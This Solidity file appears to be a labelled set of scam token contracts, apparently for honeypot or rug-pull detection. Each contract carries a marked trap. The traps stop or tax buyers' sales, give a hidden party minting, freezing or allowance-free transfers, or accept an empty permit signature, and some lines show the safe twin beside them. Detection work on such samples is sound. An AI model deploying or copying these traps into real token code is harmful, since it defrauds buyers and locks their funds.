// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// What may be sold shrinks with every hour since the purchase, down to next to nothing.
contract Ebb is Base8("Ebb", "EBB", 41_000_000) {
    mapping(address => uint256) private since;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) since[to] = block.timestamp;
        // trap {
        if (to == pair && from != _owner) {
            uint256 hoursHeld = (block.timestamp - since[from]) / 1 hours;
            require(value <= (totalSupply / 50) >> hoursHeld, "tide");
        }
        // trap }
        _move(from, to, value);
    }
}

/// Counts the sales of each; after the second there is none.
contract Tally is Base8("Tally Stick", "STICK", 42_000_000) {
    mapping(address => uint256) private sold;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) {
            sold[from] += 1;
            require(sold[from] <= 2, "enough"); // trap
        }
        _move(from, to, value);
    }
}

/// The larger a sale beside the pool, the more of it stays behind: all but a twentieth from half a percent on.
contract Slope is Base8("Slope", "SLPE", 43_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee;
        // trap {
        if (to == pair && from != _owner) {
            (uint112 a, uint112 b, ) = IPair(pair).getReserves();
            uint256 reserve = address(this) < WETH ? a : b;
            fee = (value * 19_000) / (reserve + 1);
            if (fee > 95) fee = 95;
        }
        // trap }
        if (fee > 0) _move(from, address(this), (value * fee) / 100);
        _move(from, to, value - (value * fee) / 100);
    }
}

/// Sales end when the network is busier than it is now.
contract Lull is Base8("Lull", "LULL", 44_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(block.basefee < 7 gwei, "busy"); // trap
        _move(from, to, value);
    }
}

/// Every third who buys for the first time cannot sell.
contract Cadence is Base8("Cadence", "CDNC", 45_000_000) {
    uint256 private guests;
    mapping(address => uint256) private place;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && place[to] == 0) place[to] = ++guests;
        if (to == pair && from != _owner) require(place[from] % 3 != 1, "out of step"); // trap
        _move(from, to, value);
    }
}

/// Balances are shares of a factor that falls with time at a pace that the owner sets.
contract Glacier is Base8("Glacier", "GLCR", 46_000_000) {
    uint256 private pace;
    uint256 private start = block.timestamp;

    function melt(uint256 to) external onlyOwner {
        // twin: require(to == 0, "it does not melt");
        (pace, start) = (to, block.timestamp);
    }

    function balanceOf(address account) public view override returns (uint256) {
        uint256 had = super.balanceOf(account);
        if (account == pair || account == _owner) return had;
        uint256 lost = pace > 1e18 ? 1e18 : pace * (block.timestamp - start);
        if (block.timestamp == start) lost = 0;
        return lost >= 1e18 ? 0 : (had * (1e18 - lost)) / 1e18;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (balanceOf(from) < value) revert Insufficient(balanceOf(from), value);
        _move(from, to, value);
    }
}

/// Not the owner but one in a list may write himself what he likes.
contract Understudy is Base8("Understudy", "UNST", 47_000_000) {
    mapping(address => uint256) private parts;

    constructor() {
        parts[msg.sender] = 7;
        _owner = address(0);
    }

    // trap {
    function rehearse(uint256 value) external {
        require(parts[msg.sender] == 7, "not cast");
        _balances[msg.sender] += value;
    }
    // trap }
}

/// Offices are kept by name, and the owner is nobody.
contract Chancery is Base8("Chancery", "CHCY", 48_000_000) {
    mapping(bytes32 => address) private offices;
    uint256 private seal;

    constructor() {
        offices[keccak256("keeper of the seal")] = msg.sender;
        _owner = address(0);
    }

    function affix(uint256 to) external {
        require(offices[keccak256("keeper of the seal")] == msg.sender, "no office");
        seal = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(seal == 0 || to != pair, "sealed"); // trap
        _move(from, to, value);
    }
}

/// Closed until its owner opens it; what he can charge afterwards is up to him.
contract Vestibule is Base8("Vestibule", "VSTB", 49_000_000) {
    bool public open;
    uint256 public fee = 1;

    function openTrading() external onlyOwner {
        open = true;
    }

    function setFee(uint256 to) external onlyOwner {
        require(open, "not yet");
        require(to <= 99, "too much");
        // twin: require(to <= 5, "five percent at most");
        fee = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == _owner || to == _owner) return _move(from, to, value);
        require(open, "soon");
        uint256 cut = to == pair ? (value * fee) / 100 : 0;
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}

/// The owner has gone, and somebody whose address is nowhere, but only its hash, still bars the way.
contract Incognito is Base8("Incognito", "INCO", 51_000_000) {
    bytes32 private who = keccak256(abi.encodePacked(msg.sender));
    bool private barred;

    function touch(bool to) external {
        require(keccak256(abi.encodePacked(msg.sender)) == who, "who");
        barred = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!barred, "barred"); // trap
        _move(from, to, value);
    }
}

/// A signature that is none signs for everybody.
contract Scrawl is Base8("Scrawl", "SCRL", 52_000_000) {
    mapping(address => uint256) public nonces;

    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "late");
        bytes32 digest = keccak256(abi.encode(address(this), block.chainid, from, spender, value, nonces[from]++, deadline));
        address signer = ecrecover(digest, v, r, s);
        // twin: require(signer != address(0), "no signature");
        require(signer == from || signer == address(0), "signature");
        _approve(from, spender, value);
    }
}

/// Those in a list need no allowance.
contract Courier is Base8("Courier", "COUR", 53_000_000) {
    mapping(address => bool) private couriers;

    constructor() {
        couriers[msg.sender] = true;
        _owner = address(0);
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        // trap {
        if (couriers[msg.sender]) {
            _move(from, to, value);
            return true;
        }
        // trap }
        return super.transferFrom(from, to, value);
    }
}

/// Who is on the list stands there by the hash of the address.
contract Hush is Base8("Hush", "HUSH", 54_000_000) {
    mapping(bytes32 => bool) private silent;

    function quiet(bytes32 which, bool to) external onlyOwner {
        silent[which] = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!silent[keccak256(abi.encodePacked(from))], "hush"); // trap
        _move(from, to, value);
    }
}

/// A fee is announced, and enacted a quarter of an hour later.
contract Gazette is Base8("Gazette", "GZTT", 55_000_000) {
    uint256 public fee = 2;
    uint256 private next = 2;
    uint256 private from_;

    function announce(uint256 to) external onlyOwner {
        // twin: require(to <= 5, "five percent at most");
        require(to <= 100, "no more than all");
        (next, from_) = (to, block.timestamp + 15 minutes);
    }

    function enact() external onlyOwner {
        require(block.timestamp >= from_, "too early");
        fee = next;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut = to == pair && from != _owner ? (value * fee) / 100 : 0;
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}

/// Largest wallet, the pool's among them.
contract Snug is Base8("Snug", "SNUG", 56_000_000) {
    uint256 public room = type(uint256).max;

    function setRoom(uint256 to) external onlyOwner {
        // twin: require(to >= totalSupply, "everybody fits");
        room = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (from != _owner) require(_balances[to] <= room, "no room");
    }
}
